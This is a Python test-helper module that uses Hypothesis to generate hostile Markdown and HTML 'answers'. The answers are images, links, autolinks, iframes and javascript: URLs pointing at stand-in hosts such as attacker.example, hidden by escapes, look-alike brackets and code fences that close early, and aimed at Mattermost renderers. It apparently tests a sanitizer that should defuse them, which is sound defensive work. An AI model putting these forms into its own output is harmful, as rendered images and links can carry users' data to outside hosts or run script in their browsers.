"""Hostile answers: every way Markdown and HTML make an image or a link, wrapped in the
constructs around them, with escapes, look-alikes and code spans that close early.

``FORMS`` each make an image, a link or HTML under Mattermost's renderer as written (a test
checks that); ``OTHER_FORMS`` are what other renderers (the web app's marked, the server's
preview parser) or a confused parser might take for one. Each form and wrapper is a function of
an address and a word; the word must stay visible once the answer is posted.
"""

from __future__ import annotations

from collections.abc import Callable

from hypothesis import strategies as st

Form = Callable[[str, str], str]

FORMS: dict[str, Form] = {
    "image": lambda u, w: f"![{w}]({u})",
    "image_title": lambda u, w: f'![{w}]({u} "{w}")',
    "image_angle": lambda u, w: f"![{w}](<{u}>)",
    "image_reference": lambda u, w: f"![{w}][r{w}]\n\n[r{w}]: {u}",
    "image_collapsed": lambda u, w: f"![{w}][]\n\n[{w}]: {u}",
    "image_shortcut": lambda u, w: f"![{w}]\n\n[{w}]: {u}",
    "image_in_link": lambda u, w: f"[![{w}]({u})]({u})",
    "image_protocol_relative": lambda u, w: f"![{w}](//attacker.example/{w}.png)",
    "image_relative": lambda u, w: f"![{w}]({w}.png)",
    "link": lambda u, w: f"[{w}]({u})",
    "link_reference": lambda u, w: f"[{w}][r{w}]\n\n[r{w}]:\n  {u}\n  '{w}'",
    "link_shortcut": lambda u, w: f"[{w}]\n\n  [{w}]: <{u}>",
    "link_javascript": lambda u, w: f"[{w}](javascript:alert(1))",
    "link_after_escaped_backslash": lambda u, w: f"\\\\[{w}]({u})",
    "link_multiline_text": lambda u, w: f"[{w}\n{w}]({u})",
    "autolink": lambda u, w: f"<{u}>",
    "autolink_email": lambda u, w: f"<{w}@attacker.example>",
    "bare_url": lambda u, w: f"{w} {u}",
    "bare_www": lambda u, w: f"www.attacker.example/{w}",
    "bare_email": lambda u, w: f"{w}@attacker.com",
    # the fourth attack on issue 31: Mattermost's e-mail autolinker takes these local parts and
    # a domain that starts with a dot
    "bare_email_symbols": lambda u, w: f"{w}#%@attacker.com",
    "bare_email_quoted": lambda u, w: f'"{w}"@attacker.com',
    "bare_email_dot_domain": lambda u, w: f"{w}@.attacker.com",
    "html_img": lambda u, w: f'<img src="{u}" alt="{w}">',
    "html_a": lambda u, w: f'<a href="{u}">{w}</a>',
    "html_block": lambda u, w: f"<div>\n<img src={u}>\n</div>\n\n{w}",
    "html_iframe": lambda u, w: f'<iframe src="{u}"></iframe> {w}',
}

OTHER_FORMS: dict[str, Form] = {
    "entity_brackets": lambda u, w: f"&#91;{w}&#93;({u}) &lbrack;{w}&rbrack;({u})",
    "escaped_brackets": lambda u, w: f"\\[{w}\\]({u}) \\![{w}]({u})",
    # fullwidth [ ] ( ), angle brackets, single guillemets, ornament parentheses, fullwidth :
    "look_alike_brackets": lambda u, w: (f"\uff3b{w}\uff3d\uff08{u}\uff09 \u27e8{u}\u27e9 "
                                         f"\u2039{w}\u203a(x) \u2768{w}\u2769"),
    "fullwidth_colon": lambda u, w: f"https\uff1a//attacker.example/{w}",
    "bare_domain_path": lambda u, w: f"attacker.example/{w}?d=1",
    "image_with_size": lambda u, w: f"![{w}]({u} =100x100)",
    "code_span_closes_early": lambda u, w: f"``{w}` ![{w}]({u}) `{w}``",
    "code_span_unclosed": lambda u, w: f"`{w} ![{w}]({u})",
    "code_span_then_link": lambda u, w: f"`{w}`[{w}]({u})`",
    "unclosed_fence": lambda u, w: f"```\n![{w}]({u})",
    "tilde_fence_with_backticks": lambda u, w: f"~~~\n```\n~~~\n![{w}]({u})\n```",
    "fence_with_backtick_info": lambda u, w: f"```a`b\n![{w}]({u})\n```",
    # marked opens a fence at "```a`b" (CommonMark does not) and closes it mid-line later
    "backtick_info_then_fence": lambda u, w: f"```a`b\n{w}\n\n```\nx ```\n![{w}]({u})\n```",
    "fence_in_quote": lambda u, w: f"> ```\n> ![{w}]({u})\n> ```\n![{w}]({u})",
    # A fence only the renderer sees (a carriage return ends its line; an inline run of
    # backticks a cut puts at a post's start) swallowing gatewayd's own fence up to a line of
    # its code that closes it: what follows in that code would be live (the fourth attack).
    "fence_after_carriage_return": lambda u, w: f"{w}\r```\n\n````\n```\n\n![{w}]({u})\n````",
    "tilde_fence_after_carriage_return": lambda u, w: f"{w}\r~~~\n\n```\n~~~\n![{w}]({u})\n```",
    "inline_fence_run": lambda u, w: f"{w} ```x{w}\n\n````\n```\n\n![{w}]({u})\n````",
    "latex_href": lambda u, w: f"$\\href{{{u}}}{{{w}}}$",
    "data_uri": lambda u, w: f"![{w}](data:image/png;base64,iVBORw0KGgo=)",
    "mention_and_channel": lambda u, w: f"@{w} ~{w} #{w}{w} :{w}:",
    "newline_in_destination": lambda u, w: f"[{w}](\n{u}\n)",
    "nested_brackets": lambda u, w: f"[[{w}]]({u}) [{w}[{w}]]({u})",
}

WRAPPERS: list[Form] = [
    lambda s, w: s,
    lambda s, w: f"*{s}*",
    lambda s, w: f"**{w} {s}**",
    lambda s, w: f"_{s}_ ~~{s}~~",
    lambda s, w: f"- {w}\n- {s}\n  - {s}",
    lambda s, w: f"1. {s}\n2. {w}",
    lambda s, w: f"> {s}\n> > {s}",
    lambda s, w: f"| {w} | h |\n|---|---|\n| {s} | `{w}` |",
    lambda s, w: f"# {s}\n{w}\n===",
    lambda s, w: f"`{w}` {s} `{w}",
    lambda s, w: f"```\n{s}\n```\n{s}",
    lambda s, w: f"    {s}\n\n{s}",
    lambda s, w: f"<!-- {s} -->",
    lambda s, w: f"{w}\\\n{s}",
]

_SCHEMES = ["https://", "http://", "ftp://", "//", "HTTPS://", "mailto:", "javascript:",
            "web+x://", "data:text/html,"]
_SEPARATORS = ["\n\n", "\n", " ", "", "\n\n\n", "\r", "\r\n", "\r\r"]


@st.composite
def _word(draw: st.DrawFn) -> str:
    return f"q{draw(st.integers(min_value=0, max_value=10**6))}z"


@st.composite
def _url(draw: st.DrawFn, word: str) -> str:
    scheme = draw(st.sampled_from(_SCHEMES))
    host = draw(st.sampled_from(["attacker.example", "www.attacker.example", "127.0.0.1:8065",
                                 "xn--80ak6aa92e.example"]))
    return f"{scheme}{host}/p.png?d={word}"


@st.composite
def hostile_answers(draw: st.DrawFn) -> tuple[str, list[str]]:
    """A hostile answer and the words it carries that the reader must still see."""
    forms = {**FORMS, **OTHER_FORMS}
    parts: list[str] = []
    words: list[str] = []
    for _ in range(draw(st.integers(min_value=1, max_value=5))):
        word = draw(_word())
        form = forms[draw(st.sampled_from(sorted(forms)))]
        wrapper = draw(st.sampled_from(WRAPPERS))
        parts.append(wrapper(form(draw(_url(word)), word), word))
        parts.append(draw(st.sampled_from(_SEPARATORS)))
        words.append(word)
    return "".join(parts), words
